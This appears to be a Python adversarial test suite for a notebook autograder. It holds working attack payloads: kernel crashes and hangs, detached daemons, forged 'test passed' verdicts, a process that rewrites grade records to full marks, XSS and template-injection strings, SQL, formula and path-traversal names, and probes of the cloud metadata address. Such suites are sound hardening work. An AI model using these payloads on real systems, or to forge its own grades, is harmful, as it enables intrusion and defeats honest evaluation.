        parts = [session.pack(session.msg_header("stream")), session.pack(parent["header"])]
        parts += [b"{}", content]
        signed = [b"stream", b"<IDS|MSG>", session.sign(parts), *parts]
        kernel.iopub_thread.socket.send_multipart(signed)
kernel.iopub_thread.schedule(flood)
time.sleep(40)
""",
    where=("q5",),
)
attack(
    "one-message-of-many-parts",
    FAMILY,
    "A message whose parts never end, 1.5 GB of them, waits in the grader's memory.",
    """
import struct
for name in os.listdir("/proc/self/fd"):
    with contextlib.suppress(OSError, ValueError):
        found = socket.socket(fileno=os.dup(int(name)))
        port = json.loads(pathlib.Path("/kernel/connection.json").read_text())["iopub_port"]
        if found.family == socket.AF_UNIX and str(found.getsockname()).endswith(f"z-{port}"):
            found.getpeername()
            found.setblocking(True)
            for _ in range(190):
                found.sendall(b"\\3" + struct.pack("!Q", 8 << 20) + bytes(8 << 20))
""",
    where=("q5",),
)


@edited("page-without-end", FAMILY, "Text that takes hours to become a page: LaTeX, HTML, code.")
def _(notebook):
    notebook.cells += [
        new_markdown_cell("\\begin{a} " * 500_000),
        new_markdown_cell("<table><b>" * 100_000),
        new_code_cell("x = 1\n" * 500_000),
    ]


attack(
    "endless-loop",
    FAMILY,
    "An answer never ends.",
    answers={"q1": "def clamp(x, low, high):\n    while True:\n        pass"},
)
attack(
    "endless-loop-deaf",
    FAMILY,
    "A cell never ends and ignores every interrupt.",
    """
for number in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM, signal.SIGXCPU):
    signal.signal(number, signal.SIG_IGN)
until = time.time() + 60
while time.time() < until:
    try:
        while time.time() < until:
            pass
    except BaseException:
        pass
""",
)
attack(
    "uninterruptible",
    FAMILY,
    "One multiplication, which nothing can interrupt, takes half a minute.",
    "power = 3 ** (1 << 24) * 3 ** (1 << 24) // 7",
    where=("q5",),
)


@edited("sleep-in-many-cells", FAMILY, "Each of five more cells sleeps for just less than allowed.")
def _(notebook):
    notebook.cells += [new_code_cell("import time\ntime.sleep(1)") for _ in range(5)]


attack(
    "recursion",
    FAMILY,
    "Recursion without a limit overflows the stack and the kernel crashes.",
    """
sys.setrecursionlimit(1 << 30)
class Deep:
    __repr__ = lambda self: repr(self)
    __getattr__ = lambda self, name: getattr(self, name + "x")
print(Deep())
""",
)
attack(
    "crash-in-the-answer",
    FAMILY,
    "The kernel dies whenever a test calls, so nothing can be said of it.",
    answers={"q1": "import os\ndef clamp(x, low, high):\n    os._exit(0)"},
)
attack(
    "stopped",
    FAMILY,
    "The kernel stops itself with SIGSTOP.",
    answers={
        "q1": """\
import os, signal
def clamp(x, low, high):
    os.kill(os.getpid(), signal.SIGSTOP)""",
    },
)
attack(
    "close-everything",
    FAMILY,
    "The kernel closes each of its files and sockets.",
    "os.closerange(0, 1000)",
    where=("q5",),
)
attack(
    "kill-the-parent",
    FAMILY,
    "The process that started the kernel is killed.",
    "if os.getppid() > 1:\n    os.kill(os.getppid(), signal.SIGKILL)",
)

# --- Leaving processes behind ---------------------------------------------------------------------

FAMILY = "processes"
SLEEPER = "import time; time.sleep(60)  # rnncourse-attack"

attack(
    "daemon",
    FAMILY,
    "A process in a session of its own lives on and holds the kernel's output open.",
    f"subprocess.Popen([sys.executable, '-c', {SLEEPER!r}], start_new_session=True)",
)
attack(
    "double-fork",
    FAMILY,
    "A grandchild keeps writing into the folders of the grading.",
    """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for n in range(600):
            for folder in [*PLACES, pathlib.Path("/tmp"), pathlib.Path.home()]:
                with contextlib.suppress(OSError):
                    (folder / "rnncourse-attack-log").write_text(str(n))
            time.sleep(0.1)
    os._exit(0)
""",
)
attack(
    "marks-later",
    FAMILY,
    "A process waits until the grading has ended, then writes full marks.",
    """
if os.fork() == 0:
    os.setsid()
    for n in range(200):
        for book in [book for place in PLACES for book in place.rglob("*.db")]:
            with contextlib.suppress(Exception), sqlite3.connect(book, timeout=1) as db:
                db.execute("update grade set auto_score = 3, manual_score = 3")
        time.sleep(0.1)
    os._exit(0)
""",
)

# --- Lying over the channel -----------------------------------------------------------------------

FAMILY = "channel"

attack(
    "answers-of-odd-shape",
    FAMILY,
    "Arrays of 10^10 entries that take no memory, of no entries, of other dtypes.",
    answers={
        "q1": "def clamp(x, low, high):\n    return np.longdouble(low)",
        "q2": """\
def running_mean(xs):
    if len(xs) > 3:
        return np.broadcast_to(1.0, (100_000, 100_000))
    return np.array([("1", 2)], dtype=[("a", "U3"), ("b", "M8[s]")])""",
        "q5": "def words(text):\n    return np.array(text.split(), dtype='U4000000')",
    },
)
attack(
    "answers-nested",
    FAMILY,
    "Lists a million deep, lists that hold themselves, a dict of a million keys.",
    answers={
        "q1": """\
def clamp(x, low, high):
    deep = low
    for _ in range(1_000_000):
        deep = [deep]
    return deep""",
        "q3": "shapes = {str(n): n for n in range(1_000_000)}",
        "q5": "def words(text):\n    own = []\n    own.append(own)\n    return own",
    },
)
attack(
    "answers-not-numbers",
    FAMILY,
    "nan, infinity and whole numbers of a hundred million bits.",
    answers={
        "q1": "def clamp(x, low, high):\n    return 1 << 100_000_000",
        "q2": "def running_mean(xs):\n    return np.full(xs.shape, np.nan)",
        "q3": 'shapes = {"W_ih": float("nan"), "W_hh": float("inf"), "b": -0.0}',
        "q5": 'def words(text):\n    return ["\\ud800", "\\0", "x" * 100_000_000]',
    },
)
attack(
    "errors-that-lie",
    FAMILY,
    "Exceptions with texts of 50 MB, texts that cannot be made, names of the tester's own.",
    answers={
        "q1": """\
class ChannelError(Exception):
    __str__ = __repr__ = lambda self: 1 / 0
def clamp(x, low, high):
    raise ChannelError""",
        "q2": """\
def running_mean(xs):
    raise type("A" * 10**7, (Exception,), {})("x" * 50_000_000)""",
        "q5": """\
def words(text):
    raise BaseExceptionGroup("<script>alert(1)</script>", [KeyboardInterrupt()])""",
    },
)
attack(
    "endless-answer",
    FAMILY,
    "Generators that never end, objects whose length and items are never the same.",
    answers={
        "q1": "def clamp(x, low, high):\n    while True:\n        yield low",
        "q3": """\
import itertools
class Shapes(dict):
    __contains__ = lambda self, name: True
    __len__ = lambda self: 1 << 62
    __iter__ = lambda self: itertools.count()
    items = lambda self: itertools.count()
shapes = Shapes()""",
        "q5": "import itertools\ndef words(text):\n    return itertools.repeat('a')",
    },
)
# What follows knows how the grader talks to the kernel, as in tools/grading/answers.py; plain
# nbgrader has no such thing, so there it does nothing.
CHANNEL = """
talk = sys.modules.get("tools.grading.answers")
wire = sys.modules.get("tools.grading.channel")
def raw(payload):
    return len(payload).to_bytes(4, "big") + payload
def all_sockets():
    for name in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError, ValueError):
            found = socket.socket(fileno=os.dup(int(name)))
            if found.family == socket.AF_UNIX:
                yield found
"""


def lies(name, tries, code, where=("q5",)):
    attack(name, FAMILY, tries, f"{CHANNEL}\nif talk:\n{_indent(code)}", where)


def _indent(code):
    return "".join(f"    {line}\n" for line in code.strip().splitlines())


FORGERIES = {
    "verdict": ("A forged verdict says that the test passed.", b'{"outputs": []}'),
    "points": (
        "A forged verdict carries full points.",
        b'{"outputs": [{"output_type": "execute_result", "data": {"text/plain": "2.0"}, '
        b'"metadata": {}, "execution_count": null}], "value": {"plain": 2.0}}',
    ),
    "question": (
        "The kernel asks the tester for its own seed and names.",
        b'{"question": {"operation": "variable", "of": {"plain": "expected"}, "args": [], '
        b'"kwargs": {}}}',
    ),
    "handle": (
        "Handles of objects that do not exist, with names that are code.",
        b'{"value": {"handle": [-1, "__class__"]}}',
    ),
    "type": (
        "Records and dtypes that name other modules and code.",
        b'{"value": {"record": ["os", "system", [{"plain": "id"}]]}}',
    ),
    "dtype": (
        "An array of objects, of a shape that overflows.",
        b'{"value": {"array": ["O", [4294967296, 4294967296, 0], ""]}}',
    ),
    "generator": (
        "A generator whose bit generator is a function of NumPy.",
        b'{"value": {"generator": {"dict": [[{"plain": "bit_generator"}, {"plain": "seed"}]]}}}',
    ),
    "error": ("An error that stops loops.", b'{"error": ["StopIteration", ""]}'),
    "literals": ("Literals that JSON does not have.", b'{"value": {"plain": [NaN, -Infinity]}}'),
    "text": ("Text that is not UTF-8.", b'{"value": {"plain": "\\udc80\xff\xfe"}}'),
    "nested": ("A million lists in lists.", b"[" * 1_000_000),
}
for kind, (tries, payload) in FORGERIES.items():
    shown = "b'[' * 1_000_000" if kind == "nested" else repr(payload)
    lies(
        f"forged-{kind}",
        f"{tries} It is sent in place of every answer.",
        f"forged = raw({shown})\ntalk.send = lambda channel, answer: channel.sendall(forged)",
        where=("q1",),
    )
lies(
    "unsolicited-answers",
    "Answers are sent before they are asked for, on every socket there is.",
    """
forged = raw(b'{"value": {"plain": 2.5}}') + raw(b'{"outputs": []}')
for found in all_sockets():
    found.setblocking(False)
    for _ in range(50):
        with contextlib.suppress(OSError):
            found.send(forged)
""",
)
lies(
    "answers-to-earlier-questions",
    "Each answer is the one to the question before.",
    """
send, late = talk.send, [{"value": {"plain": 0}}]
def send_late(channel, answer):
    late.append(answer)
    send(channel, late.pop(0))
talk.send = send_late
""",
    where=("q1",),
)
lies(
    "no-answer",
    "Questions are taken and never answered.",
    "talk.send = lambda channel, answer: time.sleep(30)",
)
lies(
    "half-an-answer",
    "A frame promises 60 MB, and one byte of it comes each second.",
    """
def send_slowly(channel, answer):
    channel.sendall((60 << 20).to_bytes(4, "big"))
    for _ in range(30):
        channel.sendall(b" ")
        time.sleep(1)
talk.send = send_slowly
""",
)
lies(
    "frame-too-large",
    "A frame promises 4 GB, and 200 MB of it come.",
    """
def send_much(channel, answer):
    channel.sendall(b"\\xff\\xff\\xff\\xff")
    for _ in range(200):
        channel.sendall(bytes(1 << 20))
talk.send = send_much
""",
)
lies(
    "channel-closed",
    "The channel is shut down in both directions when the first question comes.",
    """
def hang_up(channel, answer):
    channel.shutdown(socket.SHUT_RDWR)
    channel.close()
talk.send = hang_up
""",
)
lies(
    "answer-endlessly",
    "Answers are sent without end to one question.",
    """
send = talk.send
def send_all_day(channel, answer):
    until = time.time() + 30
    while time.time() < until:
        send(channel, answer)
talk.send = send_all_day
""",
)

# --- Exploiting the grader's parser ---------------------------------------------------------------

FAMILY = "parser"


@rewritten("json-nested", FAMILY, "Metadata of 100,000 lists in lists.")
def _(text):
    return text.replace(
        '"metadata": {', '"metadata": {"deep": ' + "[" * 10**5 + "]" * 10**5 + ",", 1
    )


@rewritten("json-literals", FAMILY, "NaN and a number of 5000 digits where numbers stand.")
def _(text):
    return text.replace('"points": 1', '"points": NaN').replace(
        '"nbformat_minor": 5', f'"nbformat_minor": {"5" * 5000}'
    )


@rewritten("json-keys-twice", FAMILY, "Keys stand twice, with different values.")
def _(text):
    text = text.replace('"grade": true', '"grade": true, "grade": false, "solution": true')
    return text.replace('"nbformat": 4', '"nbformat": 4, "metadata": {}, "nbformat": 4')


@rewritten("lone-surrogates", FAMILY, "Text holds halves of characters that UTF-8 cannot write.")
def _(text):
    text = text.replace("# Toy", "# Toy \\ud800")
    return text.replace("def clamp", 'print(\\"\\\\ud800\\")\\nhalf = \\"\\udc80\\"\\ndef clamp')


@rewritten("source-of-lists", FAMILY, "The source of cells is a list of lists, a number, null.")
def _(text):
    text = text.replace('"source": "# Toy"', '"source": [["# Toy"], [1]]')
    return text.replace('"source": ""', '"source": null')


@edited("page-with-code", FAMILY, "Scripts in Markdown, in outputs and in LaTeX for the feedback.")
def _(notebook):
    evil = (
        "<script>alert(1)</script><img src=x onerror=alert(1)><iframe src='file:///etc/passwd'>"
        "</iframe><svg onload=alert(1)></svg><a href='javascript:alert(1)'>x</a>"
        "<base href='//evil'><style>body{display:none}</style><form action='//evil'></form>\n\n"
        "[x](javascript:alert(1)) ![x](file:///etc/passwd)\n\n$\\href{javascript:alert(1)}{x}$\n\n"
        "$$</script><script>alert(1)</script>$$ {{ config }} {% include '/etc/passwd' %} "
        "{{ resources.__class__.__mro__ }}\n"
    )
    by_id(notebook, "title").source = by_id(notebook, "q6").source = evil
    by_id(notebook, "q3").source += (
        "\nfrom IPython.display import HTML, SVG, Latex, Javascript, Markdown, display\n"
        f"evil = {evil!r}\n"
        "display(HTML(evil), Latex(evil), Javascript('alert(1)'), Markdown(evil))\n"
        "display({'image/svg+xml': '<svg onload=\"alert(1)\"></svg>', 'text/html': evil, "
        "'image/png': '\" onerror=\"alert(1)'}, raw=True)\n"
        "print(evil, '\\x1b]8;;javascript:alert(1)\\x07x\\x1b[31m')\n"
    )
    by_id(
        notebook, "q5"
    ).source += f"\ndef words(text):\n    raise type('<script>', (Exception,), {{}})({evil!r})"


attack(
    "size-of-a-picture",
    FAMILY,
    "The metadata of a picture say that it is as wide as a script.",
    """
evil = '"><img src=x onerror=alert(1)><script>alert(1)</script>'
kernel = get_ipython().kernel
kernel.session.send(kernel.iopub_socket, "display_data", {
    "data": {"image/png": "aGVsbG8=", "image/jpeg": evil},
    "metadata": {"image/png": {"width": evil, "height": evil, "alt": evil}},
}, parent=kernel.get_parent("shell"))
""",
    where=("q3",),
)


@edited("attachments", FAMILY, "Attachments and outputs have names that lead out of the folder.")
def _(notebook):
    by_id(notebook, "title").attachments = {
        "../../../../rnncourse-attack.png": {"image/png": "aGVsbG8="},
        "/tmp/rnncourse-attack.png": {"../../x": "!not base64"},
    }
    by_id(notebook, "q3").metadata["filename"] = "../../../rnncourse-attack.py"
    by_id(notebook, "q1").outputs = [
        new_output(
            "display_data",
            data={"image/png": "aGVsbG8="},
            metadata={"filenames": {"image/png": "/tmp/rnncourse-attack.png"}},
        )
    ]


@rewritten("format-of-the-future", FAMILY, "The file says nbformat 5.")
def _(text):
    return text.replace('"nbformat": 4', '"nbformat": 5')


@rewritten("format-minor-99", FAMILY, "The file says nbformat 4.99, which nobody knows.")
def _(text):
    return text.replace('"nbformat_minor": 5', '"nbformat_minor": 99')


@rewritten("format-is-text", FAMILY, "nbformat is a text and a list.")
def _(text):
    return text.replace('"nbformat": 4', '"nbformat": "4"').replace(
        '"nbformat_minor": 5', '"nbformat_minor": [5]'
    )


@edited("metadata-is-a-list", FAMILY, "The metadata of cells are lists, texts, null.")
def _(notebook):
    notebook.cells += [new_code_cell("pass") for _ in range(4)]
    for c, odd in zip(notebook.cells[-4:], [[], "x", None, 5], strict=True):
        c.metadata = odd


@edited("nbgrader-metadata-odd", FAMILY, "nbgrader's metadata are a list, and ids are not text.")
def _(notebook):
    notebook.cells += [new_code_cell("pass") for _ in range(5)]
    odd = [[], "x", {"grade_id": ["q1"], "solution": True}, {"grade_id": None, "grade": True}, None]
    for c, about in zip(notebook.cells[-5:], odd, strict=True):
        c.metadata = {"nbgrader": about}


@rewritten("cells-odd", FAMILY, "Cells are null, numbers, of no type, of no source.")
def _(text):
    return text.replace('"cells": [', '"cells": [null, 5, {}, {"cell_type": "code"},', 1)


@rewritten("file-of-60-mb", FAMILY, "One answer has 60 MB of comment.")
def _(text):
    return text.replace("def clamp", "# " + "x" * (60 << 20) + "\\ndef clamp", 1)


@edited("many-cells", FAMILY, "20,000 more cells of text.")
def _(notebook):
    notebook.cells += [new_markdown_cell("x") for _ in range(20_000)]


@rewritten("not-text", FAMILY, "The file is compressed.")
def _(text):
    import gzip

    return gzip.compress(text.encode())


attack("name-is-sql", FAMILY, "A name that is SQL.", student="'; DROP TABLE grade; --")
attack("name-is-html", FAMILY, "A name that is a script.", student="<img src=x onerror=alert(1)>")
attack("name-is-a-formula", FAMILY, "A name that a spreadsheet runs.", student="=cmd('calc')!A1")
attack("name-is-a-path", FAMILY, "A name that leads elsewhere.", student="a\\..\\..\\%2e%2e{0}%s")
attack("name-has-lines", FAMILY, "A name of two lines.", student="a,17,17\nneighbour,0")
attack("name-is-an-option", FAMILY, "A name that is an option.", student="--db=x.db")
attack("name-is-long", FAMILY, "A name as long as names may be.", student="x" * 249)

# --- The network ----------------------------------------------------------------------------------

FAMILY = "network"

attack(
    "local-service",
    FAMILY,
    "A service on localhost is asked.",
    """
with socket.create_connection(("127.0.0.1", PORT), timeout=2) as connection:
    tell(connection.recv(100).decode())
""",
)
attack(
    "the-outside",
    FAMILY,
    "Addresses and names outside are asked for.",
    """
for ask in [
    lambda: socket.create_connection(("192.0.2.1", 53), timeout=0.5),
    lambda: socket.getaddrinfo("example.org", 80),
    lambda: socket.create_connection(("169.254.169.254", 80), timeout=0.5),
]:
    with contextlib.suppress(OSError):
        ask()
        tell("the outside answered")
""",
)

LEAKS = {
    "hidden tests": CANARY,
    "localhost": LOCAL_ANSWER,
    "a message between students": SHARED,
    "the outside": "the outside answered",
    "another process": "traced-a-process",
    "memory that nothing limits": "memory-without-limit",
    "rights of its own": "mounted-a-folder",
}


def leaks_in(text, seed):
    """What of the hidden a text shows, as `tell` writes it."""
    secrets = LEAKS | {"class seed": seed}
    return [name for name, secret in secrets.items() if secret[::-1] in text]
